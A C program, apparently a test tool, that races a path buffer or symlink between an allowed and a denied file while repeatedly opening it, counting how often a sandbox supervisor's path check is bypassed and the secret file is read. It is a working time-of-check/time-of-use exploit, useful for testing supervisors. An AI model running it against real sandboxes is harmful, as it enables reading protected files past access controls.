/* toctou: one thread flips a path buffer between an allowed file and a denied one as fast as it
 * can while the main thread opens the buffer in a loop and reads what it got.
 *
 * Usage: toctou ALLOWED DENIED N_OPENS SECRET_MARKER [LINK]
 * ALLOWED and DENIED must have the same length, so every flip rewrites the whole name. With
 * LINK, the buffer stays LINK and the thread flips what the symlink LINK points to instead
 * (a new symlink renamed over it: atomic), between ALLOWED and DENIED. Prints
 * "opens=N ok_allowed=A ok_secret=S denied=D other=O": S > 0 means the supervisor let an open
 * through after checking the path (the kernel then read the flipped name).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static char path[4096];
static const char *allowed, *denied;
static size_t len;
static atomic_int stop;
static const char *link_path;

static void *link_flipper(void *arg) {
    (void)arg;
    char tmp[4200];
    snprintf(tmp, sizeof tmp, "%s.tmp", link_path);
    int i = 0;
    while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
        unlink(tmp);
        if (symlink((i++ & 1) ? denied : allowed, tmp) == 0) rename(tmp, link_path);
    }
    return NULL;
}

static void *flipper(void *arg) {
    (void)arg;
    while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
        memcpy(path, denied, len);
        __asm__ volatile("" ::: "memory");
        memcpy(path, allowed, len);
        __asm__ volatile("" ::: "memory");
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 5 && argc != 6) {
        fprintf(stderr, "usage: toctou ALLOWED DENIED N_OPENS SECRET_MARKER [LINK]\n");
        return 2;
    }
    allowed = argv[1];
    denied = argv[2];
    long n = atol(argv[3]);
    const char *marker = argv[4];
    len = strlen(allowed);
    if (strlen(denied) != len || len >= sizeof path) {
        fprintf(stderr, "toctou: the two paths must have the same length\n");
        return 2;
    }
    memcpy(path, allowed, len + 1);
    if (argc == 6) {
        link_path = argv[5];
        snprintf(path, sizeof path, "%s", link_path);
    }
    pthread_t t;
    if (pthread_create(&t, NULL, link_path ? link_flipper : flipper, NULL) != 0) {
        perror("pthread_create");
        return 2;
    }
    long ok_allowed = 0, ok_secret = 0, n_denied = 0, other = 0;
    char buf[256];
    for (long i = 0; i < n; i++) {
        int fd = (i & 1) ? (int)syscall(SYS_open, path, O_RDONLY)
                         : (int)syscall(SYS_openat, AT_FDCWD, path, O_RDONLY);
        if (fd < 0) {
            if (errno == EACCES)
                n_denied++;
            else
                other++;
            continue;
        }
        ssize_t got = read(fd, buf, sizeof buf - 1);
        close(fd);
        buf[got > 0 ? got : 0] = '\0';
        if (strstr(buf, marker))
            ok_secret++;
        else
            ok_allowed++;
    }
    atomic_store(&stop, 1);
    pthread_join(t, NULL);
    printf("opens=%ld ok_allowed=%ld ok_secret=%ld denied=%ld other=%ld\n", n, ok_allowed,
           ok_secret, n_denied, other);
    return 0;
}
